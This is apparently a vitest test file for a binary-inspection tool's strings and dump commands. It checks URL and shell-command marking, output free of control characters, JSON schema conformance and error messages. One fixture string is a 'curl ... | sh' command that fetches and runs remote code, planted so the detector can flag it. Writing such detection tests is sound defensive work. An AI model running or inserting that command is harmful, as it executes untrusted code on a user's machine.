import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { schemaErrors } from "@limpid/core/testing/json-schema.ts";
import { buildElf } from "@limpid/inspect/testing";
import { afterAll, describe, expect, it, test } from "vitest";
import { corpusPath } from "../../../../../tests/support/corpus.ts";
import { runLimpid } from "../../testing/run-limpid.ts";

const folder = mkdtempSync(join(tmpdir(), "limpid-strings-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const at = (name: string) => join(folder, name);
const schema = JSON.parse(
  readFileSync(new URL("../../../../../packages/core/src/json/string.schema.json", import.meta.url), "utf8"),
);

const text = "curl -s http://203.0.113.7/x | sh";
writeFileSync(
  at("notes"),
  `\x01${text}\x1b]0;title\x07\x02${Buffer.from("wide text", "utf16le").toString("latin1")}`,
  "latin1",
);
writeFileSync(at("program"), buildElf({ symbols: [{ name: "a_long_symbol_name", size: 8 }] }));

describe("limpid inspect --strings", () => {
  it("prints offset, text and why it is of interest, and nothing a terminal obeys", async () => {
    const run = await runLimpid(["inspect", "--strings", at("notes")]);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^ +1 +curl -s http:.* {2}<- URL \(http\) of 203\.0\.113\.7; .*shell command/m);
    expect(run.stdout).toMatch(/\[utf-16le\] wide text/);
    expect(run.stdout.replaceAll("\n", "")).toMatch(/^\P{Cc}*$/u);
    expect(run.stderr).toContain("3 strings; marked: 1 url");
  });

  it("prints lines that the schema describes, with the section of each", async () => {
    const run = await runLimpid(["inspect", "--strings", "--json", "--min-length", "4", at("program"), at("notes")]);
    const lines = run.objects();
    expect(lines.length).toBeGreaterThan(4);
    expect(lines.flatMap((line) => schemaErrors(schema, line))).toEqual([]);
    expect(lines).toContainEqual(
      expect.objectContaining({ text: "a_long_symbol_name", place: { name: ".strtab", kind: "table" }, marks: [] }),
    );
  });

  it("leaves UTF-16 out when asked to", async () => {
    const run = await runLimpid(["inspect", "--strings", "--ascii", at("notes")]);
    expect(run.stdout).not.toContain("wide text");
    expect(run.stderr).toContain("2 strings");
  });

  it("reads standard input", async () => {
    const run = await runLimpid(["inspect", "--strings", "--json", "-"], { input: "some text" });
    expect(run.objects()).toMatchObject([{ path: "-", offset: 0, text: "some text", length: 9 }]);
  });

  test.each([
    { name: "a missing file", args: ["--strings", "missing"], code: 3, says: "no such file" },
    { name: "a directory", args: ["--strings", "."], code: 3, says: "a directory; name its files" },
    { name: "too short a length", args: ["--strings", "--min-length", "3", "notes"], code: 2, says: "from 4 to 1000" },
    { name: "a length alone", args: ["--min-length", "8", "notes"], code: 2, says: "goes with --strings" },
    { name: "an encoding alone", args: ["--ascii", "notes"], code: 2, says: "goes with --strings" },
    { name: "two ways of looking", args: ["--strings", "--dump", "notes"], code: 2, says: "choose one" },
  ])("$name: $code", async ({ args, code, says }) => {
    const run = await runLimpid(["inspect", ...args], { cwd: folder });
    expect({ code: run.code, stderr: run.stderr }).toEqual({ code, stderr: expect.stringContaining(says) });
  });
});

describe("limpid inspect --dump", () => {
  it("says which format has no listing", async () => {
    const run = await runLimpid(["inspect", "--dump", at("program"), at("notes")]);
    expect(run.code).toBe(3);
    expect(run.stderr).toContain("no listing of this format (elf)");
    expect(run.stderr).toContain("no format that limpid knows");
  });

  const corpus = corpusPath("binaries");
  it.skipIf(corpus === undefined)("lists a run-only script within 80 columns", async () => {
    const run = await runLimpid(["inspect", "--dump", `${corpus}/applescript/osacompile-x-greet.scpt`]);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain("compiled run-only");
    expect(run.stdout).toContain("Hello World");
    for (const line of run.stdout.split("\n").slice(1)) expect(line.length).toBeLessThanOrEqual(80);
  });
});
